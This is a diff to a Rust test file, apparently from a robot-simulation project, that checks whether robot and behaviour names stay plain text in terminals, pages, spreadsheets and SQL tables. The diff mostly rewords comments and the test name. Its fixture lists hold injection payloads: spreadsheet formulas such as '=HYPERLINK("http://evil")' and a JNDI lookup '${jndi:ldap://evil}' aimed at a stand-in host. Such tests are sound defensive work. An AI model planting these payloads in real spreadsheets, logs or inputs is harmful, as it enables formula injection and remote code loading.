@@ -1,5 +1,5 @@
-//! Names that others chose, with markup, control characters, formulas and SQL in them, on their way to
-//! terminals, pages, figures, spreadsheets and tables.
+//! Names that others chose, with markup, control characters, formulas and SQL, as they appear in
+//! terminals, pages, metrics, spreadsheets and tables.
 
 use rusqlite::Connection;
 use rustix::process::Signal;
@@ -9,7 +9,7 @@ use spykee::sim::{Options, World};
 use crate::live::browser::{address, ask, get};
 use crate::rig::{QUIET_WORLD, Rig};
 
-/// Of robots: what their login may say.
+/// Names of robots, as their login may report them.
 const ROBOTS: &[&str] = &[
     "=HYPERLINK(\"http://evil\")",
     "+1+1",
@@ -28,7 +28,7 @@ const ROBOTS: &[&str] = &[
     "${jndi:ldap://evil}",
     "a\nb\rc",
 ];
-/// Of behaviours: what a file may be called.
+/// Names of behaviours, as files may be called.
 const BEHAVIOURS: &[&str] = &[
     "=1+1",
     "+1",
@@ -45,7 +45,7 @@ const BEHAVIOURS: &[&str] = &[
     "\u{ff1d}1",
 ];
 
-/// The cells of a line that was written for spreadsheets.
+/// The cells of a CSV line.
 fn cells(line: &str) -> Vec<String> {
     let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
     for letter in line.chars() {
@@ -70,7 +70,7 @@ fn is_no_formula(cell: &str) -> bool {
     ])
 }
 
-/// What others are told of a run with this robot and this behaviour.
+/// All outputs about a run with this robot and this behaviour.
 async fn told(uid: &str, behaviour: &str) {
     let what = format!("{uid:?} {behaviour:?}");
     let options = Options {
@@ -88,7 +88,7 @@ async fn told(uid: &str, behaviour: &str) {
         "journal.add('seen', {what = '=1+1'}) print('ready') task.wait(600)",
     );
     rig.file("spykee.yaml", "data: data\njournal: { record: on }\n");
-    // A file whose name begins with a dash is named as shells do.
+    // A file whose name begins with a dash needs `./`, as in any shell.
     let file = format!("./{file}");
     let args = [
         "run",
@@ -162,7 +162,7 @@ async fn told(uid: &str, behaviour: &str) {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn names_of_robots_and_behaviours_are_text_wherever_they_are_told() {
+async fn names_of_robots_and_behaviours_are_plain_text_in_all_outputs() {
     let most = ROBOTS.len().max(BEHAVIOURS.len());
     for number in 0..most {
         told(
